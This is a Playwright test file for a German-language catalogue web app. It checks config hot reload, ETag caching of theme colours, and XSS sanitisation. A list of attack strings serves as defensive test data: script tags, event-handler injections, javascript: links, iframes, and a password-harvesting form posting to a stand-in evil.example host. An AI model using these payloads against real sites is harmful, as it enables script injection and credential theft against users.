import { Patron } from "./support/patron.ts";
import { ProjectsFolder } from "./support/projects.ts";
import { DemoServer } from "./support/demo-server.ts";
import { expect, test as base } from "./support/test.ts";

interface Fixtures {
  readonly projects: ProjectsFolder;
}

/** A server over a copy of the projects, which the test changes while it runs. */
const test = base.extend<object, Fixtures>({
  projects: [
    async ({}, use) => {
      const projects = new ProjectsFolder();
      await use(projects);
      projects.remove();
    },
    { scope: "worker" },
  ],
  server: [
    async ({ projects }, use) => {
      const server = new DemoServer({ PROJECTS_DIR: projects.path });
      await server.start();
      await use(server);
      await server.stop();
      server.remove();
    },
    { scope: "worker", timeout: 60_000 },
  ],
});

const PROJECT = "basic/project.json";

test("a change on disk shows at the next visit; a broken one is refused, and the last good one stays", async ({
  page,
  projects,
}) => {
  const patron = new Patron(page, "de");
  await patron.open("/");
  const bar = page.getByRole("banner");
  await expect(bar).toContainText("Freihand");

  projects.change(PROJECT, { title: "Bücher im Tal" });
  await expect(async () => {
    await page.reload();
    await expect(bar).toContainText("Bücher im Tal", { timeout: 1000 });
  }).toPass();

  projects.write(PROJECT, '{ "title": 7');
  projects.write("basic/html/help.html", "<p>egal</p>");
  await page.reload();
  await expect(bar).toContainText("Bücher im Tal");

  projects.write(PROJECT, JSON.stringify({ edition: "multi", title: "Wieder gut" }));
  await expect(async () => {
    await page.reload();
    await expect(bar).toContainText("Wieder gut", { timeout: 1000 });
  }).toPass();
});

test("an open page takes over a changed colour within a minute, without a reload @smoke", async ({
  page,
  projects,
}) => {
  await page.clock.install();
  await new Patron(page, "de").open("/");
  await page.evaluate(() => Reflect.set(window, "isSamePage", true));
  const primary = () =>
    page.evaluate(() =>
      getComputedStyle(document.documentElement).getPropertyValue("--palette-primary-main"),
    );
  const config = /\/services\/de\/basic\/config$/;
  await expect.poll(primary).not.toBe("");
  const before = await primary();

  // while nothing has changed, the server has nothing to send: the browser fills in what it has
  const unchanged = page.waitForResponse(config);
  await page.clock.runFor(61_000);
  const request = (await unchanged).request();
  expect((await request.allHeaders())["if-none-match"]).toBe((await unchanged).headers()["etag"]);
  expect((await request.sizes()).responseBodySize).toBe(0);
  expect(await primary()).toBe(before);

  projects.change(PROJECT, {
    theme: { default: "system", light: { primary: "#6B2F6B" }, dark: { primary: "#DDA8DC" } },
  });
  const served = async () => (await page.request.get("/services/de/basic/config")).text();
  await expect.poll(served).toContain("#6B2F6B");
  expect(await primary()).toBe(before);
  await page.clock.runFor(61_000);
  await expect.poll(primary).toBe("#6B2F6B");
  expect(await page.evaluate(() => Reflect.get(window, "isSamePage"))).toBe(true);
});

const ATTACKS = [
  "<script>window.__xss = 1</script>",
  '<img src="https://evil.example/pixel.png" onerror="window.__xss = 2">',
  '<svg onload="window.__xss = 3"><a href="javascript:window.__xss=4">x</a></svg>',
  '<form action="https://evil.example/steal"><input name="password" type="password"></form>',
  '<iframe src="https://evil.example/"></iframe><style>@import "https://evil.example/x.css";</style>',
  "[klick](javascript:window.__xss=5) ![bild](https://evil.example/b.png)",
];

test("Q-2, Q-26: hostile texts of a configuration leave nothing in the page and ask nobody", async ({
  page,
  projects,
}) => {
  const text = `Vor dem Angriff **fett**\n\n${ATTACKS.join("\n\n")}\n\nNach dem Angriff`;
  projects.write(
    "basic/html/angriff.html",
    `<h1>Titel</h1><p>Vor dem Angriff</p>${ATTACKS.join("")}`,
  );
  projects.change(PROJECT, {
    edition: "multi",
    title: '<b onclick="window.__xss=6">Titel</b>',
    subtitles: [ATTACKS[0]],
    i18n: { de: { "nav.settings": ATTACKS[1] } },
    content: {
      angriff: { title: { de: ATTACKS[0] }, visible: true, menu: true, order: 1 },
    },
    maintenance: {
      enabled: true,
      offline: false,
      type: "warning",
      hidden: false,
      messages: { de: { title: ATTACKS[1], text } },
    },
  });
  // until the server has read it, there is no such page
  await expect.poll(async () => (await page.request.get("/content/angriff")).status()).toBe(200);
  const patron = new Patron(page, "de");
  await expect(async () => {
    await patron.open("/content/angriff");
    await expect(page.getByText("Vor dem Angriff").first()).toBeVisible({ timeout: 1000 });
  }).toPass();
  await expect(page.getByText("Nach dem Angriff")).toBeVisible();
  await page.waitForLoadState("networkidle");
  const found = await page.evaluate(() => ({
    ran: "__xss" in window,
    elements: [...document.querySelectorAll("main *, [role=alert] *, [role=status] *")]
      .map(({ localName }) => localName)
      .filter((name) => ["form", "iframe", "script", "style", "object", "embed"].includes(name)),
    foreign: document.querySelectorAll(
      '[src*="evil.example"], [href*="evil.example"], [href^="javascript:"]',
    ).length,
    handlers: [...document.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith("on")),
    ).length,
  }));
  expect(found).toEqual({ ran: false, elements: [], foreign: 0, handlers: 0 });
});
